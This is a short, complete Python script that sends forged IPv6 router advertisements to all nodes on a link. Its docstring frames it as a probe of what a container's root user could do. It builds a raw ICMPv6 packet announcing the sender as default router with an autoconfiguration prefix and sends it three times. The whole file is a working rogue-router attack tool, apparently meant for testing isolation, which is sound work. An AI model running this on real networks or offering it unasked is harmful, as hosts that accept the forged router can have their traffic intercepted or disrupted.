"""Send forged IPv6 router advertisements out of one interface, as a container's root user could.

    python raprobe.py IFNAME PREFIX        three RAs to ff02::1: "I am your router, and PREFIX is on this link"

The RA offers a default route (lifetime 1800 s) and PREFIX for stateless autoconfiguration. The kernel picks the
interface's link-local address as the source and fills in the ICMPv6 checksum; hop limit 255, as receivers demand.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys
import time

ND_ROUTER_ADVERT = 134
ND_OPT_PREFIX_INFORMATION = 3
ON_LINK_AND_AUTONOMOUS = 0xC0


def advertisement(prefix: ipaddress.IPv6Network) -> bytes:
    header = struct.pack("!BBHBBHII", ND_ROUTER_ADVERT, 0, 0, 64, 0, 1800, 0, 0)
    lifetimes = (86400, 14400)  # valid, preferred
    option = struct.pack(
        "!BBBBIII", ND_OPT_PREFIX_INFORMATION, 4, prefix.prefixlen, ON_LINK_AND_AUTONOMOUS, *lifetimes, 0
    )
    return header + option + prefix.network_address.packed


def main() -> None:
    ifname, prefix = sys.argv[1], ipaddress.IPv6Network(sys.argv[2])
    index = socket.if_nametoindex(ifname)
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    for _attempt in range(3):
        sock.sendto(advertisement(prefix), ("ff02::1", 0, 0, index))
        time.sleep(0.2)


if __name__ == "__main__":
    main()
